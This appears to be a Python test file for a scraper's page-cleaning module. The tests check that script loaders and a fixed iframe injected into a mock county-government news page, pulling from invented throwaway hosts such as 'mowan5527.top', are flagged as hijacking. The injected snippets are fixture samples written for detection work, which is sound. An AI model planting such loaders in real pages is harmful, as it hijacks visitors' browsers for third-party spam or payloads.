"""A load, written frame or redirect the scripts make, to a host nothing else of the page names and
whose shape the learnt host judge reads as a throwaway's (a name and a run of digits on a
spam-prone TLD, registered for the job), is spam however the code spells the load: a created
<script> appended to the head, one inserted before the first script as analytics tags are, a
visible frame created at load. The same act to a host the page also links, or to
a host shaped like a business's, stays clean. (Hosts invented: none stands in the dev data.)"""
from __future__ import annotations

from scraper.clean import clean_page, hostjudge

URL = "http://www.hengshan-x.gov.cn/art/2024/11/27/art_1042_88213.html"

BODY = ("<p>11月26日,县政府召开秋冬季安全生产工作部署会,通报前三季度全县安全生产形势。</p>"
        "<p>会议要求,各乡镇、各部门要压实属地管理责任,深入开展隐患排查整治,确保全县安全形势稳定。</p>"
        "<p>会上,县应急管理局负责人就做好森林防火、道路交通安全等重点工作作了具体安排。</p>")


def _page(tail: str = "", links: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>县政府召开安全生产工作部署会_衡山县政府</title>'
            f'</head><body><header><a href="/">衡山县人民政府</a><nav><a href="/">首页</a>{links}</nav></header>'
            '<article><h1>县政府召开安全生产工作部署会</h1><div class="info">发布时间：2024-11-27 来源：县应急管理局</div>'
            f'<div id="zoom">{BODY}</div></article><footer><p>主办：衡山县人民政府办公室</p></footer>{tail}'
            '</body></html>').encode()


def _created_load(host: str) -> str:
    return ('<script>(function(){var s=document.createElement("script");'
            f's.src="https://{host}/j/c.js";document.getElementsByTagName("head")[0].appendChild(s);}})();</script>')


def test_the_judge_reads_the_shape_not_a_list():
    assert hostjudge.score("mowan5527.top") >= hostjudge.THROWAWAY_SCORE
    assert hostjudge.score("fuyue6620.xyz") >= hostjudge.THROWAWAY_SCORE
    assert hostjudge.score("static.hengshan-news.com") < hostjudge.THROWAWAY_SCORE
    assert hostjudge.score("cdn.bootcss.com") < hostjudge.THROWAWAY_SCORE


def test_a_created_load_of_a_throwaway_host_is_spam():
    a = clean_page(_page(tail=_created_load("mowan5527.top")), url=URL)
    assert a.hijacked and any("mowan5527" in f.evidence and "throwaway" in f.where for f in a.findings)
    assert "隐患排查整治" in a.text


def test_a_loader_inserted_before_the_first_script_is_spam():
    # the analytics tag's own spelling: async, inserted before the page's first script
    tail = ('<script>var _q=_q||[];(function(){var t=document.createElement("script");t.async=true;'
            't.src="//fuyue6620.xyz/tj.js?v="+Math.random();var f=document.getElementsByTagName("script")[0];'
            'f.parentNode.insertBefore(t,f);})();</script>')
    a = clean_page(_page(tail=tail), url=URL)
    assert a.hijacked and any("fuyue6620" in f.evidence for f in a.findings)


def test_a_visible_created_frame_to_a_throwaway_host_is_spam():
    # a frame every visitor sees in a corner (neither hidden nor covering the page)
    tail = ('<script>window.onload=function(){var f=document.createElement("iframe");'
            'f.src="http://tianlu7735.club/embed/";f.width=320;f.height=430;f.style.position="fixed";'
            'f.style.bottom="0";f.style.right="10px";document.body.appendChild(f);};</script>')
    a = clean_page(_page(tail=tail), url=URL)
    assert a.hijacked and any("tianlu7735" in f.evidence for f in a.findings)


def test_a_load_of_a_host_the_page_links_is_clean():
    a = clean_page(_page(tail=_created_load("mowan5527.top"), links='<a href="https://www.mowan5527.top/">合作</a>'),
                   url=URL)
    assert not a.hijacked


def test_a_created_load_of_a_business_shaped_host_is_clean():
    a = clean_page(_page(tail=_created_load("static.hengshan-news.com")), url=URL)
    assert not a.hijacked
